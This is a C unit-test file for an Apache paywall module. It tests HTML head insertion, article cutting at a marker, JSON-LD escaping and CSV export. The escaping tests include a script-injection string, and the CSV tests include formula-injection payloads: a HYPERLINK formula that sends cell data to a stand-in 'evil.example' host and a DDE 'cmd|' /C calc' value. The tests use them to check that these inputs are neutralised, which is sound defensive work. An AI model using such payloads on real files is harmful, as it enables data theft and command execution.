/* Unit tests of mod_paywall's HTML rewriter (paywall_filter.c), its structured-data block and the routing CSV cells
 * (paywall_csv.c). Every document is fed whole, in two pieces split at every byte, and byte by byte, as a backend
 * that flushes after each byte would send it: the output must be the same each time. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "paywall_filter.h"

#define LIT(s) s, sizeof(s) - 1

#define INSERT "<script type=\"application/ld+json\">{}</script>"
#define CTA    "<div class=\"paywall\">Subscribe</div>"
#define MARKER PAYWALL_FILTER_MARKER_DEFAULT

/* ------------------------------------------------------------------------------------------------ helpers */

typedef struct {
    char *data;
    size_t len;
    size_t calls;
    size_t fail_at; /* the call that returns -1 (1 = the first); 0: none */
} sink;

static int sink_emit(void *ctx, const char *data, size_t len)
{
    sink *s = ctx;

    assert_true(len > 0);
    assert_non_null(data);
    if (++s->calls == s->fail_at) {
        return -1;
    }
    s->data = realloc(s->data, s->len + len + 1);
    assert_non_null(s->data);
    memcpy(s->data + s->len, data, len);
    s->len += len;
    s->data[s->len] = '\0';
    return 0;
}

typedef struct {
    const char *insert; /* NULL: none */
    const char *marker; /* NULL: no cut */
    const char *cta;
    size_t hold_size; /* 0: PAYWALL_FILTER_HOLD_DEFAULT */
} job;

static void job_init(const job *j, paywall_filter *f, char **hold)
{
    paywall_filter_config config = {0};
    char err[128] = "";

    config.head_insert = j->insert;
    config.head_insert_len = j->insert != NULL ? strlen(j->insert) : 0;
    if (j->marker != NULL) {
        config.marker = j->marker;
        config.marker_len = strlen(j->marker);
        config.cta = j->cta;
        config.cta_len = j->cta != NULL ? strlen(j->cta) : 0;
        config.hold_size = j->hold_size > 0 ? j->hold_size : PAYWALL_FILTER_HOLD_DEFAULT;
        *hold = malloc(config.hold_size);
        assert_non_null(*hold);
        config.hold = *hold;
    }
    assert_int_equal(paywall_filter_init(f, &config, err, sizeof(err)), 0);
    assert_string_equal(err, "");
}

/* Feeds doc in pieces of the given lengths (summing to len), then finishes; returns the output (free it). */
static char *run_pieces(const job *j, const char *doc, size_t len, const size_t *pieces, size_t npieces)
{
    paywall_filter f;
    sink s = {0};
    char *hold = NULL, *copy;
    size_t i, at = 0;

    job_init(j, &f, &hold);
    for (i = 0; i < npieces; i++) {
        /* a copy of each piece alone, so that reading beyond it is caught by ASan and valgrind */
        copy = malloc(pieces[i] + 1);
        assert_non_null(copy);
        memcpy(copy, doc + at, pieces[i]);
        assert_int_equal(paywall_filter_feed(&f, copy, pieces[i], sink_emit, &s), 0);
        free(copy);
        at += pieces[i];
    }
    assert_int_equal(at, len);
    assert_int_equal(paywall_filter_finish(&f, sink_emit, &s), 0);
    assert_int_equal(paywall_filter_finish(&f, sink_emit, &s), -1);
    assert_int_equal(paywall_filter_feed(&f, "x", 1, sink_emit, &s), -1);
    free(hold);
    if (s.data == NULL) {
        s.data = calloc(1, 1);
        assert_non_null(s.data);
    }
    return s.data;
}

static void check_filter_len(const job *j, const char *doc, size_t len, const char *expected)
{
    size_t *pieces = malloc((len + 2) * sizeof(*pieces));
    size_t i, split;
    char *out;

    assert_non_null(pieces);
    pieces[0] = len;
    out = run_pieces(j, doc, len, pieces, 1);
    assert_string_equal(out, expected);
    free(out);
    for (split = 0; split <= len; split++) {
        pieces[0] = split;
        pieces[1] = len - split;
        out = run_pieces(j, doc, len, pieces, 2);
        if (strcmp(out, expected) != 0) {
            fail_msg("split at %zu: \"%s\", expected \"%s\"", split, out, expected);
        }
        free(out);
    }
    for (i = 0; i < len; i++) {
        pieces[i] = 1;
    }
    out = run_pieces(j, doc, len, pieces, len);
    assert_string_equal(out, expected);
    free(out);
    free(pieces);
}

static void check_filter(const job *j, const char *doc, const char *expected)
{
    check_filter_len(j, doc, strlen(doc), expected);
}

static const job job_insert = {INSERT, NULL, NULL, 0};
static const job job_cut = {NULL, MARKER, CTA, 0};
static const job job_both = {INSERT, MARKER, CTA, 0};

/* ---------------------------------------------------------------------------------------------- head insert */

static void test_insert_head_end(void **state)
{
    (void)state;
    check_filter(&job_insert, "<html><head><title>T</title></head><body><p>x</p></body></html>",
                 "<html><head><title>T</title>" INSERT "</head><body><p>x</p></body></html>");
    /* only the first */
    check_filter(&job_insert, "<head></head></head>", "<head>" INSERT "</head></head>");
    /* a near miss before the anchor */
    check_filter(&job_insert, "<head></hea</he</</head>", "<head></hea</he</" INSERT "</head>");
    check_filter(&job_insert, "<<</head>", "<<" INSERT "</head>");
}

static void test_insert_head_case_space(void **state)
{
    (void)state;
    check_filter(&job_insert, "<HTML><HEAD></HEAD  ><BODY>", "<HTML><HEAD>" INSERT "</HEAD  ><BODY>");
    check_filter(&job_insert, "<head></HeAd\n\t>", "<head>" INSERT "</HeAd\n\t>");
    check_filter(&job_insert, "<head></head\r\n>", "<head>" INSERT "</head\r\n>");
    /* what a browser also takes for the end of the head */
    check_filter(&job_insert, "<head></head foo><body>", "<head>" INSERT "</head foo><body>");
    check_filter(&job_insert, "<head></head/>", "<head>" INSERT "</head/>");
}

static void test_insert_not_head(void **state)
{
    (void)state;
    /* </header> ends another element */
    check_filter(&job_insert, "<head></header><header></headers></head>",
                 "<head></header><header></headers>" INSERT "</head>");
    /* nor is "< /head>" or "</ head>" an end tag */
    check_filter(&job_insert, "< /head></ head>x", "< /head></ head>x" INSERT);
}

static void test_insert_body(void **state)
{
    (void)state;
    check_filter(&job_insert, "<html><body class=\"a\"><p>x</p></body></html>",
                 "<html>" INSERT "<body class=\"a\"><p>x</p></body></html>");
    check_filter(&job_insert, "<BODY>x", INSERT "<BODY>x");
    check_filter(&job_insert, "<p><Body\n>x", "<p>" INSERT "<Body\n>x");
    check_filter(&job_insert, "<body/>", INSERT "<body/>");
    /* <body comes first: it wins, and the later </head> is left alone */
    check_filter(&job_insert, "<body></head>", INSERT "<body></head>");
    /* <bodyguard> is another element */
    check_filter(&job_insert, "<bodyguard><body>", "<bodyguard>" INSERT "<body>");
}

static void test_insert_at_end(void **state)
{
    (void)state;
    check_filter(&job_insert, "<p>no head, no body</p>", "<p>no head, no body</p>" INSERT);
    check_filter(&job_insert, "<bodyguard></header>", "<bodyguard></header>" INSERT);
    /* an anchor cut off by the end of the response never completes */
    check_filter(&job_insert, "x</head", "x</head" INSERT);
    check_filter(&job_insert, "x<body", "x<body" INSERT);
    check_filter(&job_insert, "<", "<" INSERT);
}

static void test_insert_empty(void **state)
{
    static const job nothing = {NULL, NULL, NULL, 0};

    (void)state;
    check_filter(&job_insert, "", INSERT);
    check_filter(&nothing, "", "");
    check_filter(&nothing, "</head><!--paywall-->", "</head><!--paywall-->");
    check_filter(&job_cut, "", CTA);
    check_filter(&job_both, "", INSERT CTA);
}

static void test_insert_binary(void **state)
{
    static const char doc[] = "a\0b</head>\0";
    static const char expected[] = "a\0b" INSERT "</head>\0";
    size_t pieces[] = {sizeof(doc) - 1};
    paywall_filter f;
    char *hold = NULL;
    sink s = {0};

    (void)state;
    job_init(&job_insert, &f, &hold);
    assert_int_equal(paywall_filter_feed(&f, doc, pieces[0], sink_emit, &s), 0);
    assert_int_equal(paywall_filter_finish(&f, sink_emit, &s), 0);
    assert_int_equal(s.len, sizeof(expected) - 1);
    assert_memory_equal(s.data, expected, s.len);
    free(s.data);
}

/* Bytes leave as soon as they cannot be part of the anchor, and after the insert the input is passed on as given. */
static void test_insert_no_delay(void **state)
{
    static const struct {
        const char *in;
        const char *out; /* output so far */
    } steps[] = {
        {"abc", "abc"},
        {"<", "abc"},
        {"/he", "abc"},
        {"x", "abc</hex"},
        {"</hea", "abc</hex"},
        {"d", "abc</hex"},
        {" ", "abc</hex" INSERT "</head "},
        {">rest", "abc</hex" INSERT "</head >rest"},
    };
    paywall_filter f;
    char *hold = NULL;
    sink s = {0};
    size_t i;

    (void)state;
    job_init(&job_insert, &f, &hold);
    for (i = 0; i < sizeof(steps) / sizeof(steps[0]); i++) {
        size_t calls = s.calls;

        assert_int_equal(paywall_filter_feed(&f, steps[i].in, strlen(steps[i].in), sink_emit, &s), 0);
        assert_int_equal(s.len, strlen(steps[i].out));
        assert_memory_equal(s.data, steps[i].out, s.len);
        if (i == sizeof(steps) / sizeof(steps[0]) - 1) {
            assert_int_equal(s.calls, calls + 1); /* one piece: the input itself */
        }
    }
    assert_int_equal(paywall_filter_done(&f), 0);
    assert_int_equal(paywall_filter_finish(&f, sink_emit, &s), 0);
    assert_string_equal(s.data, "abc</hex" INSERT "</head >rest");
    free(s.data);
}

/* ---------------------------------------------------------------------------------------------------- cut */

static void test_cut_at_marker(void **state)
{
    (void)state;
    check_filter(&job_cut, "<p>teaser</p><!--paywall--><p>secret</p>", "<p>teaser</p>" CTA);
    check_filter(&job_cut, "<!--paywall-->secret", CTA);
    check_filter(&job_cut, "teaser<!--paywall-->", "teaser" CTA);
    /* the first marker cuts; what follows never shows */
    check_filter(&job_cut, "a<!--paywall-->b<!--paywall-->c", "a" CTA);
    /* markers are exact: no case folding, no spaces */
    check_filter(&job_cut, "a<!--PAYWALL-->b<!-- paywall -->c<!--paywall-->d", "a<!--PAYWALL-->b<!-- paywall -->c" CTA);
}

static void test_cut_no_marker(void **state)
{
    (void)state;
    check_filter(&job_cut, "<p>the whole article</p>", CTA);
    check_filter(&job_cut, "<p>almost</p><!--paywall--", CTA);
    check_filter(&job_both, "<head></head><p>the whole article</p>", INSERT CTA);
}

static void test_cut_overlapping(void **state)
{
    static const job abab = {NULL, "abac", "|", 0};
    static const job aab = {NULL, "aab", "|", 0};

    (void)state;
    check_filter(&job_cut, "<!--<!--paywall-->rest", "<!--" CTA);
    check_filter(&job_cut, "<!--paywall<!--paywall-->rest", "<!--paywall" CTA);
    check_filter(&job_cut, "<<!--<<!--paywall-->", "<<!--<" CTA);
    check_filter(&job_cut, "<!--paywall--<!--paywall-->x", "<!--paywall--" CTA);
    check_filter(&abab, "ababac", "ab|");
    check_filter(&abab, "abababacab", "abab|");
    check_filter(&aab, "aaaab", "aa|");
    check_filter(&aab, "aaaa", "|");
}

static void test_cut_empty_cta(void **state)
{
    static const job silent = {NULL, MARKER, NULL, 0};

    (void)state;
    check_filter(&silent, "teaser<!--paywall-->secret", "teaser");
    check_filter(&silent, "secret", "");
}

static void test_cut_both(void **state)
{
    (void)state;
    check_filter(&job_both,
                 "<html><head><title>T</title></head><body><p>teaser</p><!--paywall--><p>secret</p></body></html>",
                 "<html><head><title>T</title>" INSERT "</head><body><p>teaser</p>" CTA);
    check_filter(&job_both, "<html><body><p>teaser</p><!--paywall--><p>secret</p>",
                 "<html>" INSERT "<body><p>teaser</p>" CTA);
    /* no anchor before the marker: the insert goes before the call to action */
    check_filter(&job_both, "<p>teaser</p><!--paywall--></head>", "<p>teaser</p>" INSERT CTA);
}

static void test_cut_marker_before_head(void **state)
{
    static const job inside = {INSERT, "ead", "|", 0};
    static const job tail = {INSERT, "ead>", "|", 0};
    static const job after = {INSERT, ">", "|", 0};
    static const job around = {INSERT, "x</head>y", "|", 0};

    (void)state;
    check_filter(&job_both, "<head><title>T</title><!--paywall--></head><body>secret",
                 "<head><title>T</title>" INSERT CTA);
    /* a marker inside the anchor cuts before the anchor is complete */
    check_filter(&inside, "<x></head>", "<x></h" INSERT "|");
    /* an anchor that ends on the marker's last byte still comes first */
    check_filter(&tail, "<x></head>x", "<x>" INSERT "</h|");
    check_filter(&after, "</head>", INSERT "</head|");
    /* an anchor inside the marker is dropped with it */
    check_filter(&around, "<p>a x</head>y b", "<p>a " INSERT "|");
}

static void test_cut_too_long(void **state)
{
    static const job small = {INSERT, MARKER, CTA, 32};
    char doc[64];

    (void)state;
    /* the marker ends on the last byte the hold buffer takes */
    memset(doc, 'x', sizeof(doc));
    memcpy(doc + 32 - 14, MARKER, 14);
    doc[32] = '\0';
    check_filter(&small, doc, "xxxxxxxxxxxxxxxxxx" INSERT CTA);
    check_filter(&small, "<head></head>xxxxx<!--paywall-->", "<head>" INSERT "</head>xxxxx" CTA);
    /* one byte more and the marker came too late */
    memmove(doc + 1, doc, 32);
    doc[33] = '\0';
    check_filter(&small, doc, INSERT CTA);
    check_filter(&small, "<head></head>xxxxxx<!--paywall-->", INSERT CTA);
    /* exactly full without the marker: missing only when the response goes on or ends */
    memset(doc, 'x', 32);
    doc[32] = '\0';
    check_filter(&small, doc, INSERT CTA);
}

static void test_cut_status(void **state)
{
    static const job small = {NULL, MARKER, CTA, 16};
    paywall_filter f;
    char *hold = NULL;
    sink s = {0};

    (void)state;
    job_init(&job_cut, &f, &hold);
    assert_int_equal(paywall_filter_get_status(&f), PAYWALL_FILTER_OPEN);
    assert_int_equal(paywall_filter_feed(&f, LIT("teaser<!--pay"), sink_emit, &s), 0);
    assert_int_equal(s.len, 0); /* nothing before the marker is found */
    assert_int_equal(paywall_filter_done(&f), 0);
    assert_int_equal(paywall_filter_feed(&f, LIT("wall-->secret"), sink_emit, &s), 0);
    assert_int_equal(paywall_filter_done(&f), 1);
    assert_int_equal(paywall_filter_get_status(&f), PAYWALL_FILTER_CUT);
    assert_string_equal(s.data, "teaser" CTA);
    /* later input is ignored */
    assert_int_equal(paywall_filter_feed(&f, LIT("more secret"), sink_emit, &s), 0);
    assert_int_equal(paywall_filter_finish(&f, sink_emit, &s), 0);
    assert_string_equal(s.data, "teaser" CTA);
    assert_int_equal(paywall_filter_get_status(&f), PAYWALL_FILTER_CUT);
    free(s.data);
    free(hold);

    memset(&s, 0, sizeof(s));
    job_init(&job_cut, &f, &hold);
    assert_int_equal(paywall_filter_feed(&f, LIT("secret"), sink_emit, &s), 0);
    assert_int_equal(paywall_filter_finish(&f, sink_emit, &s), 0);
    assert_int_equal(paywall_filter_get_status(&f), PAYWALL_FILTER_NO_MARKER);
    assert_string_equal(s.data, CTA);
    free(s.data);
    free(hold);

    memset(&s, 0, sizeof(s));
    job_init(&small, &f, &hold);
    assert_int_equal(paywall_filter_feed(&f, LIT("0123456789abcdef"), sink_emit, &s), 0);
    assert_int_equal(paywall_filter_done(&f), 0);
    assert_int_equal(paywall_filter_feed(&f, LIT("g"), sink_emit, &s), 0);
    assert_int_equal(paywall_filter_done(&f), 1);
    assert_int_equal(paywall_filter_get_status(&f), PAYWALL_FILTER_TOO_LONG);
    assert_string_equal(s.data, CTA);
    assert_int_equal(paywall_filter_finish(&f, sink_emit, &s), 0);
    assert_string_equal(s.data, CTA);
    free(s.data);
    free(hold);

    assert_string_equal(paywall_filter_status_name(PAYWALL_FILTER_OPEN), "open");
    assert_string_equal(paywall_filter_status_name(PAYWALL_FILTER_CUT), "cut");
    assert_string_equal(paywall_filter_status_name(PAYWALL_FILTER_NO_MARKER), "no marker");
    assert_string_equal(paywall_filter_status_name(PAYWALL_FILTER_TOO_LONG), "too long");
    assert_string_equal(paywall_filter_status_name((paywall_filter_status)42), "unknown");
}

/* ------------------------------------------------------------------------------------------ init and abort */

static void test_init_refusals(void **state)
{
    char marker[PAYWALL_FILTER_MARKER_MAX + 1], hold[512], err[128];
    paywall_filter f;
    paywall_filter_config config;

    (void)state;
    memset(marker, '.', sizeof(marker));

    memset(&config, 0, sizeof(config));
    config.marker = marker;
    config.marker_len = sizeof(marker);
    config.hold = hold;
    config.hold_size = sizeof(hold);
    assert_int_equal(paywall_filter_init(&f, &config, err, sizeof(err)), -1);
    assert_string_equal(err, "the marker is longer than 255 bytes");
    config.marker_len = PAYWALL_FILTER_MARKER_MAX;
    assert_int_equal(paywall_filter_init(&f, &config, err, sizeof(err)), 0);

    config.hold_size = PAYWALL_FILTER_MARKER_MAX - 1;
    assert_int_equal(paywall_filter_init(&f, &config, err, sizeof(err)), -1);
    assert_string_equal(err, "a cut needs a hold buffer at least as long as the marker");
    config.hold_size = PAYWALL_FILTER_MARKER_MAX;
    config.hold = NULL;
    assert_int_equal(paywall_filter_init(&f, &config, err, sizeof(err)), -1);
    assert_string_equal(err, "a cut needs a hold buffer at least as long as the marker");

    memset(&config, 0, sizeof(config));
    config.marker_len = 3;
    config.hold = hold;
    config.hold_size = sizeof(hold);
    assert_int_equal(paywall_filter_init(&f, &config, err, sizeof(err)), -1);
    assert_string_equal(err, "a marker length without the marker");
    config.marker = "abc";
    config.cta_len = 3;
    assert_int_equal(paywall_filter_init(&f, &config, err, sizeof(err)), -1);
    assert_string_equal(err, "a call-to-action length without the call to action");

    memset(&config, 0, sizeof(config));
    config.head_insert_len = 3;
    assert_int_equal(paywall_filter_init(&f, &config, err, sizeof(err)), -1);
    assert_string_equal(err, "a head insert length without the insert");
    assert_int_equal(paywall_filter_init(&f, &config, NULL, 0), -1);
    assert_int_equal(paywall_filter_init(NULL, &config, err, sizeof(err)), -1);
    assert_int_equal(paywall_filter_init(&f, NULL, err, sizeof(err)), -1);

    /* without a marker, cta and hold are not looked at */
    memset(&config, 0, sizeof(config));
    config.cta_len = 3;
    assert_int_equal(paywall_filter_init(&f, &config, err, sizeof(err)), 0);
}

/* Feeds doc in two halves and finishes; returns the number of emit calls, or 0 when a call failed. */
static size_t run_halves(const job *j, const char *doc, size_t fail_at)
{
    size_t half = strlen(doc) / 2;
    paywall_filter f;
    char *hold = NULL;
    sink s = {0};
    int rc;

    s.fail_at = fail_at;
    job_init(j, &f, &hold);
    rc = paywall_filter_feed(&f, doc, half, sink_emit, &s);
    if (rc == 0) {
        rc = paywall_filter_feed(&f, doc + half, strlen(doc) - half, sink_emit, &s);
    }
    if (rc == 0) {
        rc = paywall_filter_finish(&f, sink_emit, &s);
    }
    if (rc == -1) {
        /* the failing call was the last one, and the filter stays failed */
        assert_int_equal(s.calls, fail_at);
        assert_int_equal(paywall_filter_feed(&f, "x", 1, sink_emit, &s), -1);
        assert_int_equal(paywall_filter_finish(&f, sink_emit, &s), -1);
        assert_int_equal(s.calls, fail_at);
    } else {
        assert_int_equal(rc, 0);
    }
    free(s.data);
    free(hold);
    return rc == 0 ? s.calls : 0;
}

/* Each emit call in turn fails: the call into the filter that made it and every later one return -1. */
static void check_abort(const job *j, const char *doc, size_t calls)
{
    size_t fail_at;

    assert_int_equal(run_halves(j, doc, 0), calls);
    for (fail_at = 1; fail_at <= calls; fail_at++) {
        assert_int_equal(run_halves(j, doc, fail_at), 0);
    }
}

static void test_emit_abort(void **state)
{
    (void)state;
    /* "<head>", then the insert, "</h" held from the first half, the second half */
    check_abort(&job_insert, "<head></head><body>", 4);
    check_abort(&job_insert, "abc", 3);                        /* "a", "bc", the insert at the end */
    check_abort(&job_both, "<head></head>a<!--paywall-->", 4); /* before, insert, after, cta */
    check_abort(&job_both, "secret", 2);                       /* insert and cta at finish */
    check_abort(&job_cut, "a<!--paywall-->b", 2);              /* before, cta */
    check_abort(&job_insert, "ab</hea", 3); /* "ab", then at the end the held "</hea" and the insert */
}

/* -------------------------------------------------------------------------------------------- structured data */

#define SD_HEAD                                                                                                        \
    "<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":\"WebPage\","                 \
    "\"isAccessibleForFree\":false,\"hasPart\":{\"@type\":\"WebPageElement\",\"isAccessibleForFree\":false,"           \
    "\"cssSelector\":\""
#define SD_TAIL "\"}}</script>"

static void check_structured(const char *selector, const char *expected)
{
    char *block = paywall_structured_data(selector);

    if (expected == NULL) {
        if (block != NULL) {
            fail_msg("selector accepted: %s", block);
        }
        return;
    }
    assert_non_null(block);
    assert_string_equal(block, expected);
    free(block);
}

static void test_structured_data(void **state)
{
    char selector[PAYWALL_STRUCTURED_DATA_MAX + 2];

    (void)state;
    check_structured(".paywalled-content", SD_HEAD ".paywalled-content" SD_TAIL);
    check_structured("article > .premium, div[data-x=\"a&b\"]",
                     SD_HEAD "article \\u003e .premium, div[data-x=\\\"a\\u0026b\\\"]" SD_TAIL);
    check_structured("</script><script>alert(1)</script>",
                     SD_HEAD "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)\\u003c/script\\u003e" SD_TAIL);
    check_structured("<!--", SD_HEAD "\\u003c!--" SD_TAIL);
    check_structured(".a\\:b", SD_HEAD ".a\\\\:b" SD_TAIL);
    check_structured(".caf\xc3\xa9 .\xe2\x82\xac .\xf0\x9f\x94\x92",
                     SD_HEAD ".caf\xc3\xa9 .\xe2\x82\xac .\xf0\x9f\x94\x92" SD_TAIL);
    check_structured(".a\xe2\x80\xa8.b\xe2\x80\xa9", SD_HEAD ".a\\u2028.b\\u2029" SD_TAIL);

    memset(selector, 'a', sizeof(selector));
    selector[PAYWALL_STRUCTURED_DATA_MAX] = '\0';
    {
        char *block = paywall_structured_data(selector);

        assert_non_null(block);
        assert_int_equal(strlen(block), sizeof(SD_HEAD SD_TAIL) - 1 + PAYWALL_STRUCTURED_DATA_MAX);
        free(block);
    }
    selector[PAYWALL_STRUCTURED_DATA_MAX] = 'a';
    selector[PAYWALL_STRUCTURED_DATA_MAX + 1] = '\0';
    check_structured(selector, NULL);
}

static void test_structured_data_refusals(void **state)
{
    static const char *const bad[] = {
        "",
        ".a\n.b",
        ".a\t",
        ".a\x7f",
        ".a\xc2\x85",         /* NEL, a C1 control */
        ".a\xc2\x9f",         /* C1 */
        ".a\xc3",             /* truncated */
        ".a\xc3x",            /* bad continuation */
        ".a\xe2\x82x",        /* bad third byte */
        ".a\xc0\xae",         /* overlong '.' */
        ".a\xe0\x80\xae",     /* overlong */
        ".a\xed\xa0\x80",     /* a surrogate */
        ".a\xf4\x90\x80\x80", /* beyond U+10FFFF */
        ".a\xf8\x88\x80\x80\x80",
        ".a\xff",
        ".a\x80",
    };
    size_t i;

    (void)state;
    assert_null(paywall_structured_data(NULL));
    for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        check_structured(bad[i], NULL);
    }
    /* the first code point after the C1 controls, and the last of Unicode, are fine */
    check_structured("\xc2\xa0\xf4\x8f\xbf\xbf", SD_HEAD "\xc2\xa0\xf4\x8f\xbf\xbf" SD_TAIL);
}

/* ------------------------------------------------------------------------------------------------------ CSV */

static void check_cell(const char *value, const char *expected)
{
    csv_buf buf = {0};

    assert_int_equal(csv_cell(&buf, value), 0);
    assert_non_null(buf.data);
    assert_int_equal(buf.len, strlen(expected));
    assert_string_equal(buf.data, expected);
    csv_free(&buf);
    assert_null(buf.data);
}

static void test_csv_cells(void **state)
{
    (void)state;
    check_cell("Erika Mustermann", "Erika Mustermann");
    check_cell("Berlin, Mitte", "\"Berlin, Mitte\"");
    check_cell("The \"Daily\" Ltd", "\"The \"\"Daily\"\" Ltd\"");
    check_cell("\"", "\"\"\"\"");
    check_cell("line 1\r\nline 2", "\"line 1\r\nline 2\"");
    check_cell("a\nb", "\"a\nb\"");
    check_cell("a\rb", "\"a\rb\"");
    check_cell(" padded", "\" padded\"");
    check_cell("padded ", "\"padded \"");
    check_cell("in side", "in side");
    check_cell(NULL, "");
    check_cell("", "");
    check_cell("Zo\xc3\xab M\xc3\xbcller \xe2\x82\xac", "Zo\xc3\xab M\xc3\xbcller \xe2\x82\xac");
    check_cell("\xe6\x9d\xb1\xe4\xba\xac, \xe6\x97\xa5\xe6\x9c\xac",
               "\"\xe6\x9d\xb1\xe4\xba\xac, \xe6\x97\xa5\xe6\x9c\xac\"");
}

static void test_csv_neutralise(void **state)
{
    (void)state;
    check_cell("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
               "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
    check_cell("=1+2", "\"'=1+2\"");
    check_cell("+49 30 1234", "\"'+49 30 1234\"");
    check_cell("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"");
    check_cell("@SUM(A1:A2)", "\"'@SUM(A1:A2)\"");
    check_cell("\t=1", "\"'\t=1\"");
    check_cell("\r=1", "\"'\r=1\"");
    check_cell("=", "\"'=\"");
    /* only the first character counts */
    check_cell("a=1", "a=1");
    check_cell("Rue de l'=Eglise", "Rue de l'=Eglise");
    check_cell("'quoted", "'quoted");
}

static void test_csv_rows(void **state)
{
    static const char *const row[PAYWALL_CSV_COLUMNS] = {
        "42",
        "Erika Mustermann",
        NULL,
        "Hauptstra\xc3\x9f"
        "e 1",
        "c/o \"Verlag\"",
        "10115",
        "Berlin",
        "DE",
        "print",
        "2024-07-01",
    };
    static const char *const evil[PAYWALL_CSV_COLUMNS] = {
        "43", "=cmd", "@corp", "-", "+", " x", "a,b", "FR", "print", "2024-07-01",
    };
    csv_buf buf = {0};
    size_t i, cap, row_len;

    (void)state;
    assert_int_equal(csv_row(&buf, NULL, 0), 0);
    assert_string_equal(buf.data, "\r\n");
    csv_reset(&buf);
    assert_int_equal(buf.len, 0);
    assert_string_equal(buf.data, "");

    assert_int_equal(csv_row(&buf, row, PAYWALL_CSV_COLUMNS), 0);
    assert_int_equal(csv_row(&buf, evil, PAYWALL_CSV_COLUMNS), 0);
    assert_string_equal(buf.data, "42,Erika Mustermann,,Hauptstra\xc3\x9f"
                                  "e 1,\"c/o \"\"Verlag\"\"\",10115,Berlin,DE,"
                                  "print,2024-07-01\r\n"
                                  "43,\"'=cmd\",\"'@corp\",\"'-\",\"'+\",\" x\",\"a,b\",FR,print,2024-07-01\r\n");
    row_len = (size_t)(strchr(buf.data, '\n') + 1 - buf.data);
    csv_reset(&buf);

    /* the export's shape: the header, then 100,000 rows of about 150 bytes in one buffer */
    assert_int_equal(sizeof(PAYWALL_CSV_HEADER) - 1, 86);
    assert_int_equal(csv_row(&buf,
                             (const char *const[]){"id", "name", "company", "address_line1", "address_line2",
                                                   "postal_code", "city", "country", "plan", "period_end"},
                             PAYWALL_CSV_COLUMNS),
                     0);
    assert_string_equal(buf.data, PAYWALL_CSV_HEADER);
    for (i = 0; i < 100000; i++) {
        assert_int_equal(csv_row(&buf, row, PAYWALL_CSV_COLUMNS), 0);
    }
    assert_int_equal(buf.len, 86 + 100000 * row_len);
    assert_int_equal(strlen(buf.data), buf.len);
    cap = buf.cap;
    csv_reset(&buf);
    assert_int_equal(buf.cap, cap); /* the memory is kept for the next chunk */
    csv_free(&buf);
    csv_free(&buf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_insert_head_end), cmocka_unit_test(test_insert_head_case_space),
        cmocka_unit_test(test_insert_not_head), cmocka_unit_test(test_insert_body),
        cmocka_unit_test(test_insert_at_end),   cmocka_unit_test(test_insert_empty),
        cmocka_unit_test(test_insert_binary),   cmocka_unit_test(test_insert_no_delay),
        cmocka_unit_test(test_cut_at_marker),   cmocka_unit_test(test_cut_no_marker),
        cmocka_unit_test(test_cut_overlapping), cmocka_unit_test(test_cut_empty_cta),
        cmocka_unit_test(test_cut_both),        cmocka_unit_test(test_cut_marker_before_head),
        cmocka_unit_test(test_cut_too_long),    cmocka_unit_test(test_cut_status),
        cmocka_unit_test(test_init_refusals),   cmocka_unit_test(test_emit_abort),
        cmocka_unit_test(test_structured_data), cmocka_unit_test(test_structured_data_refusals),
        cmocka_unit_test(test_csv_cells),       cmocka_unit_test(test_csv_neutralise),
        cmocka_unit_test(test_csv_rows),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
